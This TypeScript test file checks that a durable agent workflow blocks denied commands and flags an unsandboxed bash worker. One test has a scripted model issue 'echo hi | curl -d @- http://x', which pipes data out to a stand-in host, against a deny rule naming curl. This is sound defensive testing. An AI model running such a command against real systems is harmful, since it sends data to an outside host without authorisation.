import { ScriptedModel, text, toolUse } from '../../src/models/scripted';
import { eventsQuery } from '../../src/shared';
import { withWorker } from '../support/temporal';
import { useWorkflowSuite } from '../support/workflow-suite';

/** What a run says about its commands: its own denied commands, and a worker without the sandbox. */
const { suite, start } = useWorkflowSuite('policy');

test("a run's commandPolicy denies commands on top of the worker's, and the model is told the rule", async () => {
  const model = new ScriptedModel([
    toolUse([{ name: 'bash', input: { command: 'echo hi | curl -d @- http://x' } }]),
    text('ok'),
  ]);
  await withWorker(suite.env, { model }, async (tq) => {
    const result = await (await start(tq, { commandPolicy: { deny: ['curl'] } })).result();
    expect(result.exitReason).toBe('completed');
  });
  const toolResult = JSON.stringify(model.requests[1]?.messages[2]);
  expect(toolResult).toContain('"is_error":true');
  expect(toolResult).toMatch(/curl/);
});

test('a worker whose bash is unsandboxed says so in the run: a notice and a warning on top of Current Details', async () => {
  const model = new ScriptedModel([text('ok')]);
  await withWorker(
    suite.env,
    { model, deps: { sandboxWarning: () => 'UNSANDBOXED: DURABLE_AGENT_SANDBOX=off' } },
    async (tq) => {
      const handle = await start(tq, { session: true, sessionIdleTimeoutSeconds: 5 });
      const events = await (async () => {
        for (;;) {
          const page = await handle.query(eventsQuery, {});
          if (page.events.some((e) => e.kind === 'awaiting_input')) return page.events;
          await new Promise((r) => setTimeout(r, 100));
        }
      })();
      expect(events).toContainEqual(
        expect.objectContaining({ kind: 'notice', message: 'bash: UNSANDBOXED: DURABLE_AGENT_SANDBOX=off' }),
      );
      const metadata = (await handle.query('__temporal_workflow_metadata')) as { currentDetails?: string };
      expect(metadata.currentDetails?.split('\n')[0]).toContain('**warning:** UNSANDBOXED');
      await handle.terminate('test over');
    },
  );
});
